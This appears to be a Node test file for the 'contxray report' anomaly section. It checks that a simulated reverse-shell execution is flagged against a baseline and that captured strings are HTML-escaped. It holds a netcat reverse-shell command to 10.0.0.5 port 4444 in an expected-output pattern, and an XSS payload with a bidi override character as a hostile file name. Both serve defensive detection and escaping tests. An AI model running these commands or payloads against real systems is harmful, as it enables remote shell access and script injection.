/**
 * `contxray report … --baseline/--model`: the anomaly section. Fixture captures of the detect
 * workload (test/helpers/detect-workload.ts): a baseline and a capture with a reverse shell plus a
 * hostile program name injected into one window of `web`.
 */
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { writeCaptureFromRows } from '../support/fixture.js';
import { cli, tempDir } from '../helpers/captures.js';
import { workloadRows, writeWorkload } from '../helpers/detect-workload.js';

const T = 1_764_400_000_000_000_000n;
const HOUR = 3_600_000_000_000n;
const { dir, cleanup } = tempDir('contxray-report-anomaly-');
const f = (name: string) => join(dir, name);
const HOSTILE = '/tmp/<img src=x onerror=alert(1)>\u202eexe';

before(async () => {
  await writeWorkload(f('base.arrow'), { startNs: T, seconds: 300, seed: 1 });
  const rows = workloadRows({ startNs: T + 2n * HOUR, seconds: 200, seed: 3, attackWindow: 12, attack: ['reverse-shell'] });
  rows.push({ kind: 'exec', ts: T + 2n * HOUR + 124_000_000_000n, cgroup_id: 8101n, pid: 7777, tid: 7777, comm: 'x', ppid: 1, uid: 0, filename: HOSTILE, argv: ['x'], truncated: false });
  await writeCaptureFromRows(f('attack.arrow'), { host: { hostname: 'detect-host' }, startedAtNs: T + 2n * HOUR, rows });
});
after(cleanup);

function section(html: string): string {
  const m = /<section id="anomalies">([\s\S]*?)<\/section>/.exec(html);
  assert.ok(m, 'the anomaly section exists');
  return m[1]!;
}

test('report --baseline: anomaly section with a score chart per container, the flagged window and its top reason', () => {
  const r = cli(['report', f('attack.arrow'), '--baseline', f('base.arrow'), '-o', f('r.html')], { timeoutMs: 120_000 });
  assert.equal(r.status, 0, r.stderr);
  const html = readFileSync(f('r.html'), 'utf8');
  assert.match(html, /<a href="#anomalies">Anomalies \(1\)<\/a>/);
  const s = section(html);
  assert.match(s, /Anomalies \(1 flagged window\(s\)\)/);
  // one score timeline per container (web, worker), compiled to SVG
  assert.equal((s.match(/<figure class="chart"/g) ?? []).length, 2);
  assert.equal((s.match(/<svg/g) ?? []).length, 2);
  const windows = s.match(/<li class="anomaly-window">[\s\S]*?<\/ol>\s*<\/li>/g) ?? [];
  assert.equal(windows.length, 1);
  assert.match(windows[0]!, /2025-11-29 09:08:40 – 09:08:50 UTC/);
  const first = /<ol class="reasons"><li>([^]*?)<span/.exec(windows[0]!)![1]!;
  // the drift rule (a program never run in the baseline) comes first, quoting the argv
  assert.match(first, /^rule: program never run in baseline: \/bin\/nc with argv &#x60;nc -e \/bin\/sh 10\.0\.0\.5 4444&#x60;/);
});

test('report --baseline: captured strings in reasons are escaped (no markup, no raw bidi)', () => {
  const html = readFileSync(f('r.html'), 'utf8');
  const s = section(html);
  assert.doesNotMatch(html, /<img src=x/);
  assert.match(s, /\/tmp\/&lt;img src&#x3D;x onerror&#x3D;alert\(1\)&gt;\\u202eexe/);
  assert.ok(!s.includes('\u202e'));
});

test('report --model: same section from a saved model; --baseline with --model is a usage error', () => {
  const m = cli(['detect', '--baseline', f('base.arrow'), '--save-model', f('m.json')]);
  assert.equal(m.status, 0, m.stderr);
  const r = cli(['report', f('attack.arrow'), '--model', f('m.json'), '-o', f('m.html')], { timeoutMs: 120_000 });
  assert.equal(r.status, 0, r.stderr);
  assert.match(section(readFileSync(f('m.html'), 'utf8')), /against model m\.json/);
  const both = cli(['report', f('attack.arrow'), '--model', f('m.json'), '--baseline', f('base.arrow'), '-o', f('x.html')]);
  assert.equal(both.status, 2, both.stderr);
  assert.match(both.stderr, /give --baseline or --model, not both/);
});
